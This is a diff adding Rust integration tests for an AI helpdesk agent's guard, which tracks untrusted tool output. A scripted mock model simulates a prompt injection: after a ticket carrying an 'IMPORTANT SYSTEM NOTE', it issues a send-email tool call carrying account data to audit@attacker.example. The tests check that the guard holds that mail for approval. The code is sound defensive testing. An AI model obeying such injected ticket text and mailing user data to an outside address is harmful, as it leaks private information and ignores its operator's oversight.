@@ -188,6 +188,100 @@ async fn a_poisoned_ticket_cannot_mail_data_away() {
     assert!(!contains(&raw_files(g.dir.path(), "store.sqlite"), CANARY));
 }
 
+/// The guard example served with `script` as its model, `edit` applied to
+/// its text and `files` (name, text) written beside it.
+async fn scripted(
+    script: impl Fn(&Value) -> MockReply + Send + Sync + 'static,
+    edit: impl FnOnce(String) -> String,
+    files: &[(&str, String)],
+) -> Guard {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("logs")).unwrap();
+    let mock = MockLlm::start(script).await;
+    let text = example_agent_text("guard", &mock.url());
+    for (name, body) in files {
+        let body = body.replace("MODEL_URL", &mock.url()).replace(
+            "TOOLS_DIR",
+            &repo().join("examples/guard/tools").display().to_string(),
+        );
+        std::fs::write(dir.path().join(name), body).unwrap();
+    }
+    let agent = dir.path().join("helpdesk.yaml");
+    std::fs::write(&agent, edit(text)).unwrap();
+    let outbox = format!("outbox={}", dir.path().join("outbox.tsv").display());
+    let vars = [("BINDERY_PARAM_MAIL_TOKEN", CANARY)];
+    let (sidecar, api) = serve(
+        &agent,
+        &sqlite_in(dir.path()),
+        &["--set", outbox.as_str()],
+        &vars,
+        dir.path(),
+    );
+    Guard {
+        dir,
+        _mock: mock,
+        sidecar,
+        api,
+    }
+}
+
+/// The first system prompt's text and every message's text, joined.
+fn said(req: &Value) -> (String, String) {
+    let messages = req["messages"].as_array().cloned().unwrap_or_default();
+    let system = messages[0]["content"].as_str().unwrap_or("").to_string();
+    let all = messages
+        .iter()
+        .filter_map(|m| m["content"].as_str())
+        .collect::<Vec<_>>()
+        .join("\n");
+    (system, all)
+}
+
+const MAIL_AWAY: fn() -> MockReply = || {
+    MockReply::tool_call(
+        "bash_send-email",
+        json!({"to": "audit@attacker.example", "body": "account 4711"}),
+    )
+};
+
+/// A model endpoint that gives two calls of one turn the same id cannot
+/// hide the ticket's result behind the mail's: each call gets an id of its
+/// own, and the next mail waits.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn duplicate_call_ids_do_not_hide_an_untrusted_result() {
+    let g = scripted(
+        |req| {
+            let (_, all) = said(req);
+            let role = last_message(req)["role"].as_str().unwrap_or("").to_string();
+            match role.as_str() {
+                "user" => MockReply::Raw(
+                    json!({
+                        "id": "r1", "object": "chat.completion", "model": "mock-model",
+                        "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {
+                            "role": "assistant", "content": null,
+                            "tool_calls": [
+                                {"id": "dup", "type": "function", "function": {"name": "bash_fetch-ticket", "arguments": "{\"id\": \"T-1\"}"}},
+                                {"id": "dup", "type": "function", "function": {"name": "bash_send-email", "arguments": "{\"to\": \"bob@example.com\", \"body\": \"hi\"}"}}
+                            ]}}]
+                    })
+                    .to_string(),
+                ),
+                "tool" if all.contains("IMPORTANT SYSTEM NOTE") && !all.contains("attacker.example\"") => MAIL_AWAY(),
+                _ => MockReply::text("done"),
+            }
+        },
+        |t| t,
+        &[],
+    )
+    .await;
+    let id = new_session(&g.api, json!({"agent": "helpdesk"})).await;
+    let r = g.message(&id, "read ticket T-1").await;
+    let item = waiting(&r).clone();
+    assert_eq!(item["call"]["to"], "audit@attacker.example", "{}", r.text);
+    assert_eq!(item["tainted_by"][0]["tool"], "bash_fetch-ticket", "{item}");
+    assert_eq!(g.outbox(), ["bob@example.com\thi"]);
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_clean_session_asks_only_where_a_condition_holds() {
     let g = Guard::start().await;
